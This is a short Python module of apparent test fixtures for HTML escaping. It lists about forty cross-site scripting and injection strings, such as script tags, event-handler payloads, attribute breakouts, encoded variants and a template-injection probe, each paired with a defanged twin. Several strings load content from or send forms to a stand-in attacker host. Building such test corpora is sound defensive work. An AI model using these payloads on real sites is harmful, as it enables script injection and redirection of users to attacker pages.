"""Texts that try to become markup, and for each its twin: as long, of the same kind of signs, but harmless."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example.com/x.js></script>",
    "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example.com></object>",
    "<embed src=https://evil.example.com>",
    "<link rel=stylesheet href=https://evil.example.com/x.css>",
    "<style>*{background:url(https://evil.example.com)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.com'>",
    "<base href=https://evil.example.com/>",
    "<form action=https://evil.example.com><input name=x>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>ici</a>",
    "<a href='https://evil.example.com'>ici</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><b>",
    "</title></textarea></select></option><b>",
)
BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=alert(1) `",
    '" autofocus onfocus=alert(1) "',
    '\\"><img src=x onerror=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "javascript:alert(1)",
    "{{ link }}{% include 'web/layout.html' %}{{ 7*7 }}",
    "\u2028<b>\u2029",
    "\ufeff＜script＞alert(1)＜/script＞",
)
CORPUS = SCRIPTS + BREAKOUTS
HARMLESS = str.maketrans({"<": "‹", ">": "›", '"': "”", "'": "’", "`": "’", "&": "§", "{": "(", "}": ")"})


def twin(text: str) -> str:
    """The same text without any sign that markup is made of."""
    return text.translate(HARMLESS)
